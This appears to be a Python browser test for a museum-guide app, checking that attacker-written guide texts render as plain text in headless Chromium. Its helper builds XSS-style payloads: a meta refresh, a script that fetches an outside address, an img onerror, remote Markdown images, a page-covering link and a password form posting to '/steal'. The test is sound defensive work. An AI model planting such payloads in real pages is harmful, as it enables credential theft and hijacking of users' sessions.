"""Guide texts are plain text to every visitor: a guide whose title, names and descriptions carry
HTML, scripts, a meta refresh, a full-page link, a password form and remote images is shown in a
real headless Chromium as typed, and the page neither changes nor asks anything of the outside."""

from __future__ import annotations

import copy
import http.server
import re
import shutil
import threading
import time

import pytest

from smartlens.bench.browser import (
    ARTIFACTS,
    browser,
    free_port,
    start_camera,
    start_lens,
    wait_for,
    write_y4m,
)
from smartlens.escaping import html_text, plain
from smartlens.guide import save_guide

from conftest import SESSION_SETTINGS as SETTINGS

needs_chromium = pytest.mark.skipif(
    not (shutil.which("chromium") and shutil.which("chromedriver")),
    reason="Debian's chromium and chromium-driver are not installed (.ci/run installs them)",
)


def hostile(outside: str, marker: str, short: bool = False) -> str:
    """A text written by an attacker; ``outside`` is an address the page must never contact.
    ``short``: within a title's length limit (500 characters): the page-covering link and the
    form are left to the long texts."""
    head = (
        f'{marker} <meta http-equiv="refresh" content="0;url={outside}/refresh">'
        f"<script>document.title='pwned';fetch('{outside}/script')</script>"
        f'<img src="{outside}/img-tag.png" onerror="document.title=\'pwned\'">'
        f"\n\n![remote]({outside}/markdown-image.png) [click here]({outside}/link) {outside}/bare"
    )
    tail = (
        f'\n\n<a href="{outside}/cover" style="position:fixed;top:0;left:0;width:100vw;height:100vh;'
        f'z-index:99999;background:red">covered</a>'
        f'<form action="{outside}/steal"><input type="password" name="p"><button>Log in</button></form>'
    )
    return head + ("" if short else tail) + " :red[coloured] $x^2$ **bold**"


def test_markdown_and_html_escaping_leave_no_markup():
    text = hostile("http://127.0.0.1:9", "M")
    # Markdown: every character that could start markup is backslash-escaped (shown as typed)
    assert not re.search(r"(?<!\\)[<>\[\]()!:*$`]", plain(text)), plain(text)
    # an HTML fragment: no tag, no Markdown link or image, one line
    escaped = html_text(text)
    for bad in ("<", ">", "](", "![", ":red[", "$x", "\n"):
        assert bad not in escaped, bad


class _Outside(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self):
        _Outside.hits.append(self.path)
        self.send_response(200)
        self.end_headers()

    do_POST = do_GET  # noqa: N815 (the name http.server calls)

    def log_message(self, *args):
        pass


@pytest.mark.browser
@pytest.mark.slow
@pytest.mark.timing  # WebRTC and the first recognition within timeouts
@needs_chromium
def test_hostile_guide_texts_render_as_text_in_chromium(demo_guide, tmp_path):
    from selenium.webdriver.common.by import By

    from smartlens.imaging import read_image
    from smartlens.methods import load_recognizer

    server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), _Outside)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    outside = f"http://127.0.0.1:{server.server_address[1]}"
    _Outside.hits.clear()

    guide = copy.deepcopy(demo_guide.guide)
    guide.name = "hostile"
    guide.title = {"en": hostile(outside, "GUIDE-TITLE", short=True)}
    for art in guide.artworks:
        art.title = {"en": hostile(outside, f"TITLE-{art.id}", short=True)}
        art.author = {"en": hostile(outside, "AUTHOR", short=True)}
        art.description = {"en": hostile(outside, "DESCRIPTION")}
        for d in art.details:
            d.name = {"en": f"<b>{d.id}</b> ![i]({outside}/chip.png)"}
            d.description = {"en": hostile(outside, "DETAIL")}
    files = {a.image: demo_guide.path(a.image) for a in guide.artworks}
    ref = save_guide(guide, SETTINGS.guides / "hostile", files=files, replace=True)
    load_recognizer(ref, SETTINGS, "retrieval")  # the index, built before the server needs it

    art = guide.artworks[0]
    y4m = write_y4m(tmp_path / "art.y4m", read_image(ref.path(art.image)))
    port = free_port()
    lens = start_lens("hostile", port)
    driver = browser(y4m)
    url = f"http://127.0.0.1:{port}/"
    try:
        driver.get(url)
        body = lambda d: d.find_element(By.TAG_NAME, "body").text  # noqa: E731
        wait_for(driver, lambda d: "GUIDE-TITLE" in body(d), 60, "the guide title")
        start_camera(driver)
        driver.switch_to.default_content()
        wait_for(driver, lambda d: "DESCRIPTION" in body(d), 60, "the artwork's card")
        time.sleep(3)  # time for anything a refresh or a script would do
        ARTIFACTS.mkdir(exist_ok=True)
        driver.save_screenshot(str(ARTIFACTS / "e2e-hostile-guide.png"))

        text = body(driver)
        assert driver.current_url.startswith(url), driver.current_url  # no redirect
        assert driver.title != "pwned"
        assert '<meta http-equiv="refresh"' in text  # shown as typed
        assert "![remote](" in text and "<script>" in text
        page = driver.find_element(By.TAG_NAME, "body")
        for css in ("meta[http-equiv]", "form", "input[type=password]", f"a[href^='{outside}']"):
            assert not page.find_elements(By.CSS_SELECTOR, css), css
        assert not [
            e
            for e in driver.find_elements(By.CSS_SELECTOR, "img")
            if outside in (e.get_attribute("src") or "")
        ]
        # the page still works: nothing covers it (the element at the centre is not a link)
        covering = driver.execute_script(
            "const e = document.elementFromPoint(innerWidth / 2, innerHeight / 2); return e && e.closest('a');"
        )
        assert covering is None
        assert _Outside.hits == [], _Outside.hits  # no request ever reached the outside address
    finally:
        driver.quit()
        lens.kill()
        lens.wait(10)
        server.shutdown()
